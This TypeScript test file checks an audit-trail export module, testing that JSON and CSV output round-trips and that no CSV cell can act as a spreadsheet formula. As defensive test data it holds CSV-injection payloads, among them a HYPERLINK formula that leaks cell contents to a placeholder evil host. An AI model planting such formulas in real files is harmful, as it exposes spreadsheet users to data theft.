/** Files to take home: nothing is lost, and no cell of a spreadsheet can calculate anything. */
import { expect } from "chai";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { csvCell, trailCsv, trailJson } from "../../../core/trail/export.ts";
import { makeNames } from "../../../core/trail/names.ts";
import { sentenceOf } from "../../../core/trail/sentence.ts";
import { bodyOf, CATALOGUE, entryOf, erasedEntry, TAX, tellingOf, trailOf } from "./build-trail.ts";

const trail = trailOf([
  entryOf(4, bodyOf({ kind: "access", ...TAX, basis: { law: "housing-9" } }), {
    salt: "BQUFBQUFBQUFBQUFBQUFBQ",
    text: "=1+1",
  }),
  erasedEntry(5, 9),
]);
const header = {
  time: "Time",
  sentence: "What",
  departments: "Who",
  dataset: "Data",
  fields: "Which",
  purpose: "Why",
  log: "Log",
  index: "Index",
  kind: "Kind",
};

describe("core/trail/export", () => {
  it("writes the trail as logged, for a later proof", () => {
    const file = JSON.parse(trailJson(trail.items, [{ log: 1, origin: "o", tag: "t" }], new Date(0)));
    expect(file).to.include({ v: 1, made: "1970-01-01T00:00:00.000Z" });
    expect(file.logs[0].entries.map(({ index }: { index: number }) => index)).to.deep.equal([5, 4]);
    expect(file.logs[0].entries[1]).to.deep.include({
      body: trail.items[1]!.text,
      leafHash: trail.items[1]!.leafHash,
    });
    expect(file.logs[0].entries[0]).to.deep.include({ body: null, erased: 9 });
  });

  it("writes a table that reads back as it was", () => {
    const names = () => tellingOf(trail, "en").names;
    const table = trailCsv(trail.items, {
      header,
      trail,
      names,
      sentenceOf: (item) => sentenceOf(item, tellingOf(trail, "en")),
    });
    expect(table.charCodeAt(0)).to.equal(0xfeff);
    const rows = parse(table, { bom: true }) as string[][];
    expect(rows[0]).to.deep.equal(Object.values(header));
    expect(rows[2]!.slice(3)).to.deep.equal([
      "Income tax records",
      "Income band; Year",
      "Public rental housing",
      "1",
      "4",
      "access",
    ]);
    expect(rows[2]![0]).to.equal("2026-03-05T02:00:00.000Z");
  });

  it("makes no cell a formula, whatever stands in it", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "|", "%", "  =", "\n="])
      expect(csvCell(`${start}cmd()`), JSON.stringify(start)).to.match(/^"'/);
    expect(csvCell("2026")).to.equal('"2026"');
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        const [[read]] = parse(`${csvCell(text)}\r\n`, { relax_quotes: false }) as [[string]];
        expect([text, `'${text}`]).to.include(read);
        expect(read).not.to.match(/^[=+\-@＝＋－＠\t\r]/u);
      }),
    );
  });

  it("keeps a hostile catalogue from calculating", () => {
    const evil = '=HYPERLINK("https://evil.example?"&A1)';
    const catalogue = { ...CATALOGUE, purposes: [{ code: TAX.purpose, name: evil, nameEn: evil }] };
    const names = () =>
      makeNames({ departments: new Map([[6, { name: evil, nameEn: evil }]]), catalogue }, "en");
    const table = trailCsv(trail.items, { header, trail, names, sentenceOf: () => evil });
    for (const row of parse(table, { bom: true }) as string[][])
      for (const cell of row) expect(cell).not.to.match(/^\s*[=+\-@]/);
  });
});
